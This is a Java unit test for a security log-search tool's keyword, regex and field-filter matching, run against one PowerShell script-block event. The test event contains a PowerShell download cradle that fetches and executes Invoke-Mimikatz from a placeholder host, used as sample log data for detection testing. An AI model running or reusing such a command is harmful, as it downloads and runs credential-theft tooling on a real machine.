package tansa.search;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.junit.jupiter.api.Test;
import tansa.event.Event;

import java.io.IOException;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Keyword, regex and where semantics of {@code tansa search}, on one event. */
class EventQueryTest {
    private static Event event() throws IOException {
        ObjectNode tree = (ObjectNode) new ObjectMapper().readTree("""
                {"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-PowerShell"}},"EventID":4104,
                 "Channel":"Microsoft-Windows-PowerShell/Operational","Computer":"WS01"},
                 "EventData":{"ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString('http://x/Invoke-Mimikatz.ps1')",
                 "Path":"C:\\\\Users\\\\ſtudent\\\\a.ps1"}}}""");
        return Event.of(tree, "t.json");
    }

    private static boolean q(List<String> k, List<String> re, List<String> where, boolean all, boolean cased) throws IOException {
        return EventQuery.of(k, re, where, all, cased).matches(event());
    }

    @Test
    void keywordsAreCaseInsensitiveSubstringsFoldedAsSigmaFolds() throws IOException {
        assertTrue(q(List.of("invoke-MIMIKATZ"), List.of(), List.of(), false, false));
        assertTrue(q(List.of("STUDENT"), List.of(), List.of(), false, false), "ſ folds to s, as in Sigma matching");
        assertFalse(q(List.of("invoke-MIMIKATZ"), List.of(), List.of(), false, true));
        assertTrue(q(List.of("nothing", "webclient"), List.of(), List.of(), false, false), "any of");
        assertFalse(q(List.of("nothing", "webclient"), List.of(), List.of(), true, false), "all of");
        assertTrue(q(List.of("4104"), List.of(), List.of(), false, false), "numbers are searched as text");
    }

    @Test
    void regexAndWhere() throws IOException {
        assertTrue(q(List.of(), List.of("downloadstring\\('http"), List.of(), false, false));
        assertFalse(q(List.of(), List.of("downloadstring\\('http"), List.of(), false, true));
        assertTrue(q(List.of(), List.of(), List.of("EventID=4104", "Computer=ws01", "Channel~powershell"), false, false));
        assertFalse(q(List.of(), List.of(), List.of("EventID=410"), false, false), "= is the whole value");
        assertFalse(q(List.of(), List.of(), List.of("NoSuchField~x"), false, false));
        assertEquals("ScriptBlockText", EventQuery.of(List.of("webclient"), List.of(), List.of(), false, false).matchedField(event()));
        assertThrows(IllegalArgumentException.class, () -> EventQuery.of(List.of(), List.of("(?=x)"), List.of(), false, false));
        assertThrows(IllegalArgumentException.class, () -> EventQuery.of(List.of(), List.of(), List.of("=x"), false, false));
    }
}
